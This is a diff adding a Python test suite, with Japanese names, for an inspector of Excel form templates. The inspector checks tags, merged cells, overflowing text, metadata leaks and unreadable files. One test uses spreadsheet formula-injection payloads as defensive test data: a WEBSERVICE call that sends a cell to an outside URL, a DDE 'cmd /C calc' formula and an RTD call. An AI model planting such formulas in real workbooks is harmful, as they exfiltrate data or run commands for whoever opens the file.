@@ -1,0 +1,357 @@
+"""様式の点検: 見つけるべきことを一つずつ植え、赤・黄・緑と場所と次の一手を確かめる。"""
+
+from __future__ import annotations
+
+import io
+import re
+from collections.abc import Callable
+from pathlib import Path
+
+import openpyxl
+import pytest
+from openpyxl.comments import Comment
+from openpyxl.workbook.defined_name import DefinedName
+from openpyxl.worksheet.datavalidation import DataValidation
+from openpyxl.worksheet.worksheet import Worksheet
+
+from jusou_desk.packet import Packet
+from jusou_desk.reports.findings import Finding, Grade
+from jusou_desk.reports.inspecting import Inspection, inspect
+from jusou_desk.reports.package import read_parts, write_parts
+from jusou_desk.reports.vocabulary import DATE, ONE, Vocabulary, Word
+from tests.reports.layouts import new_book, packet, put, record, saved
+
+SPECIMENS = Path(__file__).parents[1] / "specimens"
+WORDS = Vocabulary(
+    (
+        Word("氏名"),
+        Word("担当者"),
+        Word("相談内容"),
+        Word("受付日", DATE),
+        Word("相談方法", ONE, terms=("来所", "電話")),
+        Word("世帯員.氏名", group="世帯員"),
+        Word("世帯員.続柄", group="世帯員"),
+    ),
+    {"情報提供者": "取扱区分「同意未取得」の項目"},
+)
+
+
+def proof() -> Packet:
+    member = {"氏名": "高野森　桜子之助", "続柄": "子"}
+    return packet(
+        {
+            "氏名": "高野森　桜子之助",
+            "担当者": "大森　花",
+            "相談内容": "長い文。" * 150,
+            "受付日": None,
+            "相談方法": "電話",
+        },
+        {"世帯員": [record(member) for _ in range(6)]},
+    )
+
+
+def sheet_with(*cells: tuple[str, str]) -> bytes:
+    book, sheet = new_book("票")
+    for place, words in cells:
+        put(sheet, place, words)
+    return saved(book)
+
+
+def look(data: bytes) -> Inspection:
+    return inspect(data, WORDS, proof())
+
+
+def found(data: bytes, grade: Grade, words: str) -> Finding:
+    every = look(data).findings
+    (one,) = [f for f in every if f.grade is grade and words in f.what]
+    return one
+
+
+def test_よい様式には赤も黄も無く_何を確かめたかを緑で言う() -> None:
+    seen = look(sheet_with(("A1:D1", "{{氏名}}"), ("A2:D2", "{{受付日:和暦}}")))
+    assert seen.usable
+    assert {one.grade for one in seen.findings} == {Grade.GREEN}
+    said = "".join(one.what for one in seen.findings)
+    assert "2か所" in said
+    assert "はみ出しません" in said
+    assert "1頁" in said
+
+
+@pytest.mark.parametrize(
+    ("words", "told", "advice"),
+    [
+        ("{{担当}}", "「担当」が分かりません", "「担当者」ではありませんか"),
+        ("{{ほにゃらら}}", "「ほにゃらら」が分かりません", "タグの一覧"),
+        ("{{受付日:西暦}}", "書き方「西暦」が分かりません", "和暦"),
+        ("{{氏名", "括弧が片方", "二つずつ"),
+        ("氏名｝｝", "括弧が片方", "二つずつ"),
+        ("{{情報提供者}}", "載せられません(取扱区分「同意未取得」の項目)", "消してください"),
+    ],
+)
+def test_使えないタグは赤(words: str, told: str, advice: str) -> None:
+    data = sheet_with(("A1", "{{氏名}}"), ("B3:C3", words))
+    one = found(data, Grade.RED, told)
+    assert (one.sheet, one.cell) == ("票", "B3")
+    assert advice in one.advice
+    assert not look(data).usable
+
+
+def test_分からないタグは一度だけ言う() -> None:
+    assert len([f for f in look(sheet_with(("A1", "{{担当}}"))).findings if f.cell == "A1"]) == 1
+
+
+def test_シート名とヘッダーのタグも確かめる() -> None:
+    book, sheet = new_book("{{担当}}")
+    put(sheet, "A1", "{{氏名}}")
+    assert sheet.oddHeader is not None
+    sheet.oddHeader.center.text = "{{主訴}}"
+    places = {f.cell for f in look(saved(book)).findings if f.grade is Grade.RED}
+    assert places == {"シート名", "ヘッダー"}
+
+
+def test_選ぶ語に無い印は黄() -> None:
+    one = found(sheet_with(("A1", "{{相談方法:☑電報}}電報")), Grade.YELLOW, "「電報」がない")
+    assert "来所、電話" in one.advice
+
+
+def test_選ぶ語を点でつないだ書き方も分かる() -> None:
+    data = sheet_with(("A1", "{{氏名}}"), ("A2", "{{相談方法.電話:☑}}電話"))
+    assert not [f for f in look(data).findings if f.grade is not Grade.GREEN]
+    one = found(sheet_with(("A1", "{{相談方法.電報:☑}}電報")), Grade.YELLOW, "「電報」がない")
+    assert one.cell == "A1"
+    # 印の書き方が無ければ、何が入るか分からない。
+    found(sheet_with(("A1", "{{相談方法.電話}}")), Grade.RED, "「相談方法.電話」が分かりません")
+
+
+def test_マクロ付きのブックは黄で_出るファイルの種類を言う() -> None:
+    parts = read_parts(sheet_with(("A1:D1", "{{氏名}}")))
+    types = parts["[Content_Types].xml"]
+    plain = b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
+    assert plain in types
+    macro = b"application/vnd.ms-excel.sheet.macroEnabled.main+xml"
+    parts["[Content_Types].xml"] = types.replace(plain, macro)
+    data = write_parts(parts)
+    assert "出るファイルも「.xlsm」" in found(data, Grade.YELLOW, ".xlsm").what
+    assert look(data).usable
+
+
+def test_差し込めない所のタグは黄で_一度だけ言う() -> None:
+    book, sheet = new_book("票")
+    put(sheet, "A1:D1", "{{氏名}}")
+    sheet["B3"].comment = Comment("{{担当者}}に聞く", "見本")
+    checked = DataValidation(type="list", formula1='"{{相談方法}},その他"')
+    sheet.add_data_validation(checked)
+    checked.add("C5")
+    book.defined_names["氏名欄"] = DefinedName("氏名欄", attr_text='"{{受付日}}"')
+    yellow = [f for f in look(saved(book)).findings if "差し込めません" in f.what]
+    assert [(f.sheet, f.cell, f.what.partition("に")[0]) for f in yellow] == [
+        ("票", "C5", "入力規則"),
+        ("票", "", "名前の定義"),
+        ("票", "B3", "コメント"),
+    ]
+    assert {f.advice for f in yellow} == {"セルか図形に書いてください。"}
+    assert look(saved(book)).usable
+
+
+def test_図形のタグも確かめ_一度だけ言う() -> None:
+    data = (SPECIMENS / "rich-template.xlsx").read_bytes()
+    parts = read_parts(data)
+    name = next(n for n in parts if n.startswith("xl/drawings/drawing") and b"<a:t>" in parts[n])
+    words = re.search(rb"<a:t>([^<]+)</a:t>", parts[name])
+    assert words is not None
+    parts[name] = parts[name].replace(words[0], "<a:t>{{担当係}}</a:t>".encode(), 1)
+    told = [f for f in look(write_parts(parts)).findings if "「担当係」" in f.what]
+    (one,) = told
+    assert one.grade is Grade.RED
+    assert one.cell.startswith("図形")
+
+
+def test_タグが無ければ赤で_次の一手は二つ() -> None:
+    one = found(sheet_with(("A1", "相談票")), Grade.RED, "タグが一つもありません")
+    assert "{{氏名}}" in one.advice
+    assert "升と項目を結ぶ" in one.advice
+
+
+def test_いちばん長い値が枠に入らなければ_その升を黄で言う() -> None:
+    book, sheet = new_book("票")
+    put(sheet, "A1:B1", "{{相談内容}}", wrap_text=True)
+    sheet.row_dimensions[1].height = 20
+    one = found(saved(book), Grade.YELLOW, "収まりません")
+    assert (one.sheet, one.cell) == ("票", "A1")
+    assert "枠を広げる" in one.advice
+    assert look(saved(book)).usable
+
+
+def test_結合に覆われたタグは赤で_書くべき升を言う() -> None:
+    book, sheet = new_book("票")
+    put(sheet, "A1", "{{氏名}}")
+    put(sheet, "C5", "{{担当者}}")
+    data = with_merges(saved(book), "B4:D6")
+    one = found(data, Grade.RED, "覆われて")
+    assert (one.cell, "B4" in one.advice) == ("C5", True)
+
+
+def test_重なった結合は赤() -> None:
+    data = with_merges(sheet_with(("A1", "{{氏名}}")), "C3:D5", "D5:E7")
+    assert "D5:E7" in found(data, Grade.RED, "重なっています").what
+
+
+def test_繰返しの行に上からかかる結合は黄() -> None:
+    book, sheet = new_book("票")
+    put(sheet, "A1", "{{氏名}}")
+    put(sheet, "B3", "{{世帯員.氏名}}")
+    data = with_merges(saved(book), "A2:A3")
+    one = found(data, Grade.YELLOW, "繰返しの行")
+    assert one.cell == "A2:A3"
+
+
+def with_merges(data: bytes, *areas: str) -> bytes:
+    """openpyxl は覆われたセルの字を消すので、結合は後から XML に書く。"""
+    parts = read_parts(data)
+    name = "xl/worksheets/sheet1.xml"
+    cells = "".join(f'<mergeCell ref="{area}"/>' for area in areas).encode()
+    merged = b"<mergeCells>" + cells + b"</mergeCells>"
+    parts[name] = parts[name].replace(b"</sheetData>", b"</sheetData>" + merged, 1)
+    return write_parts(parts)
+
+
+# --- 付いて出るもの -----------------------------------------------------------
+
+
+def with_part(name: str, content: bytes = b"<x/>") -> Callable[[bytes], bytes]:
+    return lambda data: write_parts({**read_parts(data), name: content})
+
+
+def with_author(data: bytes) -> bytes:
+    book = openpyxl.load_workbook(io.BytesIO(data))
+    book.properties.creator = "町役場 大田"
+    book.properties.lastModifiedBy = "町役場 大田"
+    return saved(book)
+
+
+def with_hidden(data: bytes) -> bytes:
+    book = openpyxl.load_workbook(io.BytesIO(data))
+    extra = book.create_sheet("下書き")
+    assert isinstance(extra, Worksheet)
+    extra.sheet_state = "veryHidden"
+    return saved(book)
+
+
+def with_path(data: bytes) -> bytes:
+    parts = read_parts(data)
+    path = (
+        b'<x15ac:absPath xmlns:x15ac="http://schemas.microsoft.com/office/spreadsheetml/2010/11/ac"'
+        b' url="C:\\Users\\oota\\"/></workbook>'
+    )
+    parts["xl/workbook.xml"] = parts["xl/workbook.xml"].replace(b"</workbook>", path)
+    return write_parts(parts)
+
+
+COMPANY = (
+    b'<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/'
+    b'extended-properties"><Company>Minato</Company></Properties>'
+)
+LEAKS: dict[str, Callable[[bytes], bytes]] = {
+    "作成者の名前": with_author,
+    "最後に保存した人の名前": with_author,
+    "会社(役場)の名前": with_part("docProps/app.xml", COMPANY),
+    "プリンターの設定": with_part("xl/printerSettings/printerSettings1.bin", b"\0"),
+    "保存したフォルダの場所": with_path,
+    "画面からは出せない隠れたシート": with_hidden,
+    "ほかのブックへのリンク": with_part("xl/externalLinks/externalLink1.xml"),
+    "コメント(メモ)": with_part("xl/comments1.xml"),
+    "コメントのやり取り": with_part("xl/threadedComments/threadedComment1.xml"),
+    "コメントを書いた人": with_part("xl/persons/person.xml"),
+    "独自の属性": with_part("docProps/custom.xml"),
+    "変更の履歴": with_part("xl/revisions/revisionHeaders.xml"),
+    "外のデータへの接続": with_part("xl/connections.xml"),
+    "ほかのファイルが埋め込まれて": with_part("xl/embeddings/oleObject1.bin", b"\0"),
+    "見えないデータ": with_part("customXml/item1.xml"),
+    "マクロ": with_part("xl/vbaProject.bin", b"\0"),
+    "縮小した絵": with_part("docProps/thumbnail.jpeg", b"\0"),
+}
+
+
+@pytest.mark.parametrize("told", LEAKS)
+def test_付いて出るものは黄で_値は言わない(told: str) -> None:
+    plain = sheet_with(("A1:D1", "{{氏名}}"))
+    assert not [f for f in look(plain).findings if told in f.what]
+    one = found(LEAKS[told](plain), Grade.YELLOW, told)
+    assert one.advice
+    assert "大田" not in one.what
+    assert "Minato" not in one.what
+
+
+@pytest.mark.parametrize(
+    "formula",
+    ['=_xlfn.WEBSERVICE("https://example.com/?n="&A1)', "=cmd|'/C calc'!A0", '=RTD("x",,"y")'],
+)
+def test_外へ値を送る数式は赤(formula: str) -> None:
+    data = sheet_with(("A1:D1", "{{氏名}}"), ("A3", formula))
+    assert found(data, Grade.RED, "外とつながる数式").advice
+    assert not look(data).usable
+
+
+def test_ふつうの数式はとがめない() -> None:
+    data = sheet_with(("A1:D1", "{{氏名}}"), ("A3", '=IF(A1="","空",COUNTA(A1:A2))'))
+    assert look(data).usable
+
+
+def test_保護されたシートは緑() -> None:
+    book, sheet = new_book("票")
+    put(sheet, "A1:D1", "{{氏名}}")
+    sheet.protection.sheet = True
+    assert "保護は付いたまま" in found(saved(book), Grade.GREEN, "保護").what
+
+
+def test_描かれないものは_その升と一緒に黄() -> None:
+    from openpyxl.chart import BarChart
+
+    book, sheet = new_book("票")
+    put(sheet, "A1:D1", "{{氏名}}")
+    sheet.add_chart(BarChart(), "B5")
+    one = found(saved(book), Grade.YELLOW, "グラフ")
+    assert one.sheet == "票"
+
+
+@pytest.mark.parametrize(
+    ("data", "told"),
+    [
+        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "古い形式"),
+        (b"not a workbook", "読めないファイル"),
+        (b"PK\x03\x04" + b"\0" * 100, "読めないファイル"),
+        (b"", "読めないファイル"),
+    ],
+)
+def test_開けないファイルは赤一つ(data: bytes, told: str) -> None:
+    seen = look(data)
+    (one,) = seen.findings
+    assert one.grade is Grade.RED
+    assert told in one.what
+    assert one.advice
+    assert seen.book is None
+
+
+def test_部品の壊れたブックも赤一つ() -> None:
+    broken = with_part("xl/worksheets/sheet1.xml", b"<worksheet")(sheet_with(("A1", "{{氏名}}")))
+    assert [one.grade for one in look(broken).findings] == [Grade.RED]
+
+
+@pytest.mark.parametrize(
+    ("name", "reds", "yellow"),
+    [
+        ("hougan-intake.xlsx", "タグが一つもありません", ""),
+        ("repeating-table.xlsx", "タグが一つもありません", ""),
+        ("rich-template.xlsx", "「主訴」が分かりません", "プリンターの設定"),
+    ],
+)
+def test_本物の様式を点検する(name: str, reds: str, yellow: str) -> None:
+    seen = look((SPECIMENS / name).read_bytes())
+    assert any(reds in one.what for one in seen.findings if one.grade is Grade.RED)
+    assert not yellow or any(yellow in one.what for one in seen.findings)
+    assert seen.book is not None
+    assert list(map(grade, seen.findings)) == sorted(map(grade, seen.findings))
+
+
+def grade(one: Finding) -> int:
+    return list(Grade).index(one.grade)
